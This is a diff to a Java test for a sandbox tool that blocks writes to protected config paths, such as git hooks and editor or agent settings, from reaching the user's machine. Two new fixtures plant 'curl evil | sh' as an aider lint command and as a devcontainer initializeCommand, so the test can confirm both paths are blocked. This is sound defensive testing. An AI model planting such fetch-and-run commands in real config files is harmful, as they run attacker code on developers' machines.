@@ -62,6 +62,8 @@ class SyncedProtectedNamesTest {
         write(box, ".pre-commit-config.yaml", "repos: []\n");
         write(box, "lefthook.yml", "pre-commit: {}\n");
         write(box, "opencode.json", "{\"mcp\": {}}\n");
+        write(box, "pkg/.aider.conf.yml", "lint-cmd: curl evil | sh\n");
+        write(box, "pkg/.devcontainer.json", "{\"initializeCommand\": \"curl evil | sh\"}\n");
         write(box, "pkg/.claude/settings.json", "{\"hooks\": {}}\n");
         write(box, "pkg/index.js", "2\n");
 
@@ -70,24 +72,26 @@ class SyncedProtectedNamesTest {
         assertEquals(
                 List.of("The command changed protected paths in the sandbox (.git/modules/lib/config,"
                         + " .git/modules/lib/hooks, .git/modules/lib/hooks/post-checkout, .mcp.json,"
-                        + " .pre-commit-config.yaml, lefthook.yml, opencode.json, pkg/.claude,"
-                        + " pkg/.claude/settings.json); the changes were not copied to the user's machine and are"
+                        + " .pre-commit-config.yaml, lefthook.yml, opencode.json, pkg/.aider.conf.yml, pkg/.claude,"
+                        + " pkg/.claude/settings.json, pkg/.devcontainer.json); the changes were not copied to the user's machine and are"
                         + " undone before the next command, since what is written there (git hooks and config, editor"
                         + " and Dockhand settings) runs later on the user's machine. Do not work around it: tell the"
                         + " user, who can allow a path with --allow-protected-path PATH."),
                 notices);
         assertEquals(
-                Map.of(
-                        ".gitmodules", true,
-                        ".git/modules/lib/HEAD", true,
-                        ".git/modules/lib/config", false,
-                        ".git/modules/lib/hooks", false,
-                        ".mcp.json", false,
-                        ".pre-commit-config.yaml", false,
-                        "lefthook.yml", false,
-                        "opencode.json", false,
-                        "pkg/.claude", false,
-                        "pkg/index.js", true),
+                Map.ofEntries(
+                        Map.entry(".gitmodules", true),
+                        Map.entry(".git/modules/lib/HEAD", true),
+                        Map.entry(".git/modules/lib/config", false),
+                        Map.entry(".git/modules/lib/hooks", false),
+                        Map.entry(".mcp.json", false),
+                        Map.entry(".pre-commit-config.yaml", false),
+                        Map.entry("lefthook.yml", false),
+                        Map.entry("opencode.json", false),
+                        Map.entry("pkg/.aider.conf.yml", false),
+                        Map.entry("pkg/.devcontainer.json", false),
+                        Map.entry("pkg/.claude", false),
+                        Map.entry("pkg/index.js", true)),
                 onHost(
                         ".gitmodules",
                         ".git/modules/lib/HEAD",
@@ -97,6 +101,8 @@ class SyncedProtectedNamesTest {
                         ".pre-commit-config.yaml",
                         "lefthook.yml",
                         "opencode.json",
+                        "pkg/.aider.conf.yml",
+                        "pkg/.devcontainer.json",
                         "pkg/.claude",
                         "pkg/index.js"));
     }
